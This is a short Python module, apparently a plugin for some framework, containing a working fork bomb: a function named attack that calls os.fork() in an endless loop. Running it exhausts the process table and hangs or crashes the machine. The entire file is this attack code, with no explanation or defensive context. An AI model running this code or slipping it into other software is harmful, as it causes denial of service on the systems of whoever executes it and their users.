"""A fork bomb."""
# layers: yes
import os
def attack(name, args, keywords):
    while True:
        os.fork()
